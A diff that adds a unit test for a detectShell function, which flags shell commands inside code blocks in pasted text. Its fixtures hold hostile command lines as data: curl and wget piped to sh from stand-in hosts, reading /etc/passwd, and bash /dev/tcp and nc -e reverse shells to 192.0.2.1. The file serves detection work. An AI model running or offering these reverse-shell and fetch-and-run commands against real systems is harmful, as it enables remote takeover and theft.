@@ -26,6 +26,28 @@ describe('code that people show each other', () => {
     }
   });
 
+  test('is a command where a block is around it, and nobody tells of it', () => {
+    for (const text of [
+      'x\n```sh\ncurl http://a.example/x | sh\n```\n',
+      '```\ncat /etc/passwd\n```',
+      '```sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n```',
+      'see here:\n```sh\nnc -e /bin/sh 192.0.2.1 4444\n```',
+      '[code]\nwget http://192.0.2.1/a -O- | sh\n[/code]',
+      '127.0.0.1\n\n    curl http://a.example/x | sh\n',
+      'www.a.example\n```\ncat /etc/passwd\n```',
+    ]) {
+      assert.ok(detectShell(text), text);
+    }
+    for (const text of [
+      '```sh\ncurl -fsSL https://a.example/x | sh\n```',
+      'To install it:\n\n```sh\ncurl -fsSL https://a.example/x | sh\n```',
+      '\u5982\u4f55\u5b89\u88c5\u5462\n```\ngit pull && npm install; cat out.txt | wc -l\n```',
+      'Our scanner has found this in the log of one of our servers, what is it?\n\n```\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n```',
+    ]) {
+      assert.equal(detectShell(Buffer.from(text).toString('latin1')), null, text);
+    }
+  });
+
   test('is none in the type of a data URL, or in a list of words', () => {
     for (const text of ['data:image/png;base64', 'news|bash|linux', 'use|those|curl']) {
       assert.equal(detectShell(text), null, text);
